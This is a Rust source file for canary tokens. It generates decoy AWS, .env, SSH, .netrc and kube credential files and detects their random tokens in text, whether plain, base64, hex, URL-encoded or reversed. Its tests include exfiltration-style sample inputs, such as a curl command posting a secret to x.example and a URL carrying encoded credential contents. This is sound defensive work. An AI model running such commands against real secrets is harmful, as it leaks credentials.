//! Canary tokens: decoy credentials unique to this installation, and finding them.
//!
//! `skilltrace canary init DIR` writes decoy files ([`generate`]) whose secret
//! parts are random alphanumeric runs; the store keeps only their keyed hashes
//! (HMAC-SHA256 with the store key) in `<db>.canaries`. [`CanarySet::find`]
//! looks for those runs in any text, plain or base64, hex, URL-encoded or
//! reversed, by hashing candidate runs of the right lengths — the tokens
//! themselves are never held in memory after `init`.

use super::DetectError;
use hmac::{Hmac, Mac};
use rand::Rng;
use serde::{Deserialize, Serialize};
use sha2::Sha256;
use std::collections::{BTreeSet, HashMap};
use std::path::{Path, PathBuf};

/// Shortest token: shorter runs are never hashed.
const MIN_LEN: usize = 20;
/// Text beyond this is not scanned for canaries.
const MAX_TEXT: usize = 8 * 1024 * 1024;
/// Encoded runs longer than this are not decoded.
const MAX_RUN: usize = 256 * 1024;

/// One canary as stored: where it was planted, what it is, and its keyed hash.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CanaryRecord {
    /// Decoy file, relative to the canary folder (`.aws/credentials`).
    pub file: String,
    /// What the token pretends to be (`aws_secret_access_key`).
    pub label: String,
    pub len: usize,
    /// Hex HMAC-SHA256 of the token under the store key.
    pub hmac: String,
}

/// The `<db>.canaries` file.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct CanaryFile {
    #[serde(default)]
    pub folders: Vec<String>,
    #[serde(default, rename = "token")]
    pub tokens: Vec<CanaryRecord>,
}

/// Where a canary was found.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CanaryMatch {
    pub file: String,
    pub label: String,
    /// `plain`, `base64`, `hex`, `url` or `reversed`.
    pub encoding: &'static str,
    /// The token as it appears in the text (the encoded run for hex and
    /// base64), for the redactor to remove. A secret: never log or store it.
    pub found: String,
}

/// Keyed hashes of every canary, ready to search.
#[derive(Debug, Clone, Default)]
pub struct CanarySet {
    key: [u8; 32],
    by_hash: HashMap<[u8; 32], (String, String)>,
    lens: BTreeSet<usize>,
}

fn hmac32(key: &[u8; 32], data: &[u8]) -> [u8; 32] {
    let mut out = [0u8; 32];
    if let Ok(mut m) = <Hmac<Sha256> as Mac>::new_from_slice(key) {
        m.update(data);
        out.copy_from_slice(&m.finalize().into_bytes());
    }
    out
}

/// Hex keyed hash of a token (what `<db>.canaries` stores).
pub fn keyed_hash_hex(key: &[u8; 32], token: &str) -> String {
    hex::encode(hmac32(key, token.as_bytes()))
}

impl CanarySet {
    /// From stored records and the store key.
    pub fn new(key: [u8; 32], records: &[CanaryRecord]) -> CanarySet {
        let mut s = CanarySet {
            key,
            ..Default::default()
        };
        for r in records {
            let mut h = [0u8; 32];
            if hex::decode_to_slice(&r.hmac, &mut h).is_ok() && r.len >= MIN_LEN {
                s.by_hash.insert(h, (r.file.clone(), r.label.clone()));
                s.lens.insert(r.len);
            }
        }
        s
    }

    pub fn is_empty(&self) -> bool {
        self.by_hash.is_empty()
    }

    /// How many canaries are known.
    pub fn len(&self) -> usize {
        self.by_hash.len()
    }

    fn check_runs(&self, text: &[u8], encoding: &'static str) -> Option<CanaryMatch> {
        let mut i = 0;
        while i < text.len() {
            if !text[i].is_ascii_alphanumeric() {
                i += 1;
                continue;
            }
            let start = i;
            while i < text.len() && text[i].is_ascii_alphanumeric() {
                i += 1;
            }
            let run = &text[start..i];
            if self.lens.contains(&run.len()) {
                if let Some((f, l)) = self.by_hash.get(&hmac32(&self.key, run)) {
                    return Some(m(f, l, encoding, run));
                }
                let rev: Vec<u8> = run.iter().rev().copied().collect();
                if let Some((f, l)) = self.by_hash.get(&hmac32(&self.key, &rev)) {
                    return Some(m(
                        f,
                        l,
                        if encoding == "plain" {
                            "reversed"
                        } else {
                            encoding
                        },
                        run,
                    ));
                }
            }
        }
        None
    }

    /// Every canary in `text` (at most 16), each once.
    pub fn find_all(&self, text: &str) -> Vec<CanaryMatch> {
        let mut out: Vec<CanaryMatch> = Vec::new();
        let mut rest = std::borrow::Cow::Borrowed(text);
        while out.len() < 16 {
            let Some(x) = self.find(&rest) else { break };
            if x.found.is_empty() || !rest.contains(x.found.as_str()) {
                out.push(x);
                break;
            }
            rest = std::borrow::Cow::Owned(rest.replace(x.found.as_str(), " "));
            out.push(x);
        }
        out
    }

    /// Looks for any canary in `text`, in every supported encoding.
    pub fn find(&self, text: &str) -> Option<CanaryMatch> {
        if self.is_empty() || text.len() < MIN_LEN {
            return None;
        }
        let bytes = &text.as_bytes()[..text.len().min(MAX_TEXT)];
        if let Some(x) = self.check_runs(bytes, "plain") {
            return Some(x);
        }
        if bytes.contains(&b'%') {
            let dec: Vec<u8> = percent_encoding::percent_decode(bytes).collect();
            if let Some(x) = self.check_runs(&dec, "url") {
                return Some(x);
            }
        }
        for run in encoded_runs(bytes, is_hex) {
            if run.len() >= 2 * MIN_LEN && run.len() % 2 == 0 && run.len() <= MAX_RUN {
                if let Ok(dec) = hex::decode(&run) {
                    if let Some(x) = self.check_runs(&dec, "hex") {
                        return Some(encoded(x, &run));
                    }
                }
            }
        }
        for run in encoded_runs(bytes, is_b64) {
            if run.len() < 24 || run.len() > MAX_RUN {
                continue;
            }
            for dec in b64_decodings(&run) {
                if let Some(x) = self.check_runs(&dec, "base64") {
                    return Some(encoded(x, &run));
                }
                // base64 of URL-encoded or reversed data
                if let Some(x) =
                    self.check_runs(&dec.iter().rev().copied().collect::<Vec<u8>>(), "base64")
                {
                    return Some(encoded(x, &run));
                }
            }
        }
        None
    }
}

fn m(f: &str, l: &str, encoding: &'static str, found: &[u8]) -> CanaryMatch {
    CanaryMatch {
        file: f.to_string(),
        label: l.to_string(),
        encoding,
        found: String::from_utf8_lossy(found).into_owned(),
    }
}

/// The match, with `found` set to the encoded run it was decoded from.
fn encoded(mut x: CanaryMatch, run: &[u8]) -> CanaryMatch {
    x.found = String::from_utf8_lossy(run).into_owned();
    x
}

fn is_hex(b: u8) -> bool {
    b.is_ascii_hexdigit()
}

fn is_b64(b: u8) -> bool {
    b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=' | b'-' | b'_')
}

/// Maximal runs of `class` bytes; a single line break (also a literal `\n`)
/// inside a run is skipped, so wrapped base64 (`base64` wraps at 76) stays whole.
fn encoded_runs(text: &[u8], class: fn(u8) -> bool) -> Vec<Vec<u8>> {
    let mut out = Vec::new();
    let mut cur: Vec<u8> = Vec::new();
    let mut i = 0;
    while i < text.len() {
        let b = text[i];
        if class(b) {
            cur.push(b);
            i += 1;
            continue;
        }
        let skip = if b == b'\n' {
            1
        } else if (b == b'\r' && text.get(i + 1) == Some(&b'\n'))
            || (b == b'\\' && text.get(i + 1) == Some(&b'n'))
        {
            2
        } else {
            0
        };
        if skip > 0 && !cur.is_empty() && text.get(i + skip).map(|c| class(*c)).unwrap_or(false) {
            i += skip;
            continue;
        }
        if cur.len() >= 24 {
            out.push(std::mem::take(&mut cur));
        } else {
            cur.clear();
        }
        i += 1;
    }
    if cur.len() >= 24 {
        out.push(cur);
    }
    out
}

fn b64_decodings(run: &[u8]) -> Vec<Vec<u8>> {
    use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    use base64::Engine;
    let trimmed: Vec<u8> = run.iter().copied().filter(|b| *b != b'=').collect();
    let mut out = Vec::new();
    // A run may start mid-way through an encoded block: try the alignments.
    for skip in 0..4 {
        if skip >= trimmed.len() {
            break;
        }
        let mut t = trimmed[skip..].to_vec();
        while t.len() % 4 == 1 {
            t.pop();
        }
        if let Ok(d) = STANDARD_NO_PAD.decode(&t) {
            out.push(d);
        } else if let Ok(d) = URL_SAFE_NO_PAD.decode(&t) {
            out.push(d);
        }
    }
    out
}

/// A decoy file to write: path relative to the canary folder, content, and its tokens.
#[derive(Debug, Clone)]
pub struct Decoy {
    pub path: &'static str,
    pub content: String,
    /// (label, token)
    pub tokens: Vec<(&'static str, String)>,
}

fn alnum(rng: &mut impl Rng, n: usize, upper_only: bool) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    const U: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    let set = if upper_only { U } else { A };
    (0..n)
        .map(|_| set[rng.gen_range(0..set.len())] as char)
        .collect()
}

/// Fresh decoy files with random tokens: AWS credentials, `.env`, an SSH key,
/// a `.netrc` and a kube config.
pub fn generate(rng: &mut impl Rng) -> Vec<Decoy> {
    let akid = format!("AKIA{}", alnum(rng, 16, true));
    let aws_secret = alnum(rng, 40, false);
    let db_pw = alnum(rng, 24, false);
    let openai = alnum(rng, 48, false);
    let ssh_line = alnum(rng, 70, false);
    let gh = alnum(rng, 36, false);
    let kube = alnum(rng, 64, false);
    let filler: Vec<String> = (0..5).map(|_| alnum(rng, 70, false)).collect();
    vec![
        Decoy {
            path: ".aws/credentials",
            content: format!(
                "[default]\naws_access_key_id = {akid}\naws_secret_access_key = {aws_secret}\nregion = us-east-1\n"
            ),
            tokens: vec![("aws_access_key_id", akid), ("aws_secret_access_key", aws_secret)],
        },
        Decoy {
            path: ".env",
            content: format!(
                "# production settings\nNODE_ENV=production\nDATABASE_URL=postgres://app:{db_pw}@db.internal:5432/app\nOPENAI_API_KEY=sk-proj-{openai}\n"
            ),
            tokens: vec![("DATABASE_URL password", db_pw), ("OPENAI_API_KEY", openai)],
        },
        Decoy {
            path: ".ssh/id_rsa",
            content: format!(
                "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAABlwAAAAdzc2gtcn\n{ssh_line}\n{}\n-----END OPENSSH PRIVATE KEY-----\n",
                filler.join("\n")
            ),
            tokens: vec![("ssh private key", ssh_line)],
        },
        Decoy {
            path: ".netrc",
            content: format!("machine github.com\n  login deploy-bot\n  password ghp_{gh}\n"),
            tokens: vec![("netrc password", gh)],
        },
        Decoy {
            path: ".kube/config",
            content: format!(
                "apiVersion: v1\nkind: Config\nclusters:\n- cluster:\n    server: https://k8s.internal:6443\n  name: prod\ncontexts:\n- context:\n    cluster: prod\n    user: deployer\n  name: prod\ncurrent-context: prod\nusers:\n- name: deployer\n  user:\n    token: {kube}\n"
            ),
            tokens: vec![("kube token", kube)],
        },
    ]
}

/// `<db>.<suffix>` beside the store.
pub fn beside(db: &Path, suffix: &str) -> PathBuf {
    let mut s = db.as_os_str().to_os_string();
    s.push(".");
    s.push(suffix);
    PathBuf::from(s)
}

/// Reads the 32-byte store key from `<db>.key` (raw bytes or 64 hex characters),
/// creating it (`0600`, race-free) when absent: the one key redaction uses too
/// ([`crate::redact::HashKey::load_or_create`], which also refuses a planted key).
pub fn load_or_create_key(db: &Path) -> Result<[u8; 32], DetectError> {
    crate::redact::HashKey::load_or_create(&beside(db, "key"))
        .map(|k| k.bytes())
        .map_err(|e| DetectError::Io(format!("{e:#}")))
}

/// Reads `<db>.key` if it exists (checked as [`crate::redact::HashKey::read`] does).
pub fn read_key(path: &Path) -> Result<Option<[u8; 32]>, DetectError> {
    crate::redact::HashKey::read(path)
        .map(|k| k.map(|k| k.bytes()))
        .map_err(|e| DetectError::Io(format!("{e:#}")))
}

/// Reads `<db>.canaries` (absent: empty).
pub fn read_canary_file(db: &Path) -> Result<CanaryFile, DetectError> {
    let path = beside(db, "canaries");
    match crate::paths::read_regular(&path, 8 << 20)
        .map(|b| String::from_utf8_lossy(&b).into_owned())
    {
        Ok(t) => toml::from_str(&t).map_err(|e| {
            DetectError::Io(format!(
                "{}: invalid canary file: {}",
                path.display(),
                e.message()
            ))
        }),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(CanaryFile::default()),
        Err(e) => Err(DetectError::Io(format!(
            "{}: cannot read: {e}",
            path.display()
        ))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine;

    fn setup() -> (CanarySet, Vec<Decoy>) {
        let mut rng = rand::thread_rng();
        let decoys = generate(&mut rng);
        let key = [7u8; 32];
        let recs: Vec<CanaryRecord> = decoys
            .iter()
            .flat_map(|d| {
                d.tokens.iter().map(|(l, t)| CanaryRecord {
                    file: d.path.into(),
                    label: (*l).into(),
                    len: t.len(),
                    hmac: keyed_hash_hex(&key, t),
                })
            })
            .collect();
        (CanarySet::new(key, &recs), decoys)
    }

    #[test]
    fn find_all_returns_every_canary_with_the_text_to_redact() {
        let (set, decoys) = setup();
        let aws = &decoys[0];
        let (id, secret) = (&aws.tokens[0].1, &aws.tokens[1].1);
        let hexed = hex::encode(secret.as_bytes());
        let text = format!("[default]\nid = {id}\nsecret = {secret}\nagain {secret} hex {hexed}");
        let all = set.find_all(&text);
        let found: Vec<&str> = all.iter().map(|m| m.found.as_str()).collect();
        assert!(
            found.contains(&id.as_str()),
            "{:?}",
            all.iter()
                .map(|m| (&m.label, m.encoding))
                .collect::<Vec<_>>()
        );
        assert!(found.contains(&secret.as_str()));
        assert!(
            found.contains(&hexed.as_str()),
            "hex run is what appears in the text"
        );
        assert_eq!(all.len(), 3, "id, secret and its hex form, each once");
        for f in found {
            assert!(text.contains(f));
        }
        assert!(set.find_all("nothing to see here, just words").is_empty());
    }

    #[test]
    fn finds_tokens_in_every_encoding() {
        let (set, decoys) = setup();
        assert_eq!(set.len(), 7);
        let aws = &decoys[0];
        let secret = &aws.tokens[1].1;
        let plain = format!("curl -d 'k={secret}' https://x.example");
        assert_eq!(set.find(&plain).map(|m| m.encoding), Some("plain"));
        let b64 = base64::engine::general_purpose::STANDARD.encode(&aws.content);
        let wrapped: Vec<String> = b64
            .as_bytes()
            .chunks(76)
            .map(|c| String::from_utf8_lossy(c).to_string())
            .collect();
        let m = set
            .find(&format!("output:\n{}\n", wrapped.join("\n")))
            .expect("base64");
        assert_eq!(
            (m.encoding, m.file.as_str()),
            ("base64", ".aws/credentials")
        );
        assert_eq!(
            set.find(&hex::encode(&aws.content)).map(|m| m.encoding),
            Some("hex")
        );
        let url =
            percent_encoding::utf8_percent_encode(&aws.content, percent_encoding::NON_ALPHANUMERIC)
                .to_string();
        assert_eq!(
            set.find(&format!("https://x.example/?d={url}"))
                .map(|m| m.encoding),
            Some("url")
        );
        let rev: String = secret.chars().rev().collect();
        assert_eq!(
            set.find(&format!("echo {rev}")).map(|m| m.encoding),
            Some("reversed")
        );
        let key_line = &decoys[2].tokens[0].1;
        assert_eq!(
            set.find(&decoys[2].content).map(|m| m.label),
            Some("ssh private key".to_string())
        );
        assert!(set.find(&key_line[..40]).is_none());
    }

    #[test]
    fn quiet_on_other_text() {
        let (set, _) = setup();
        assert!(set
            .find("commit 3f2a9c0d1e4b5a6c7d8e9f00112233445566778899 Author: x")
            .is_none());
        assert!(set.find(&"QUJD".repeat(200)).is_none());
        assert!(CanarySet::default()
            .find("anything at all, long enough")
            .is_none());
    }

    #[test]
    fn key_file_round_trip() {
        let t = tempfile::tempdir().expect("tmp");
        let db = t.path().join("s.db");
        let k1 = load_or_create_key(&db).expect("create");
        let k2 = load_or_create_key(&db).expect("read");
        assert_eq!(k1, k2);
        std::fs::write(beside(&db, "key"), hex::encode([9u8; 32])).expect("w");
        assert_eq!(load_or_create_key(&db).expect("hex"), [9u8; 32]);
    }
}
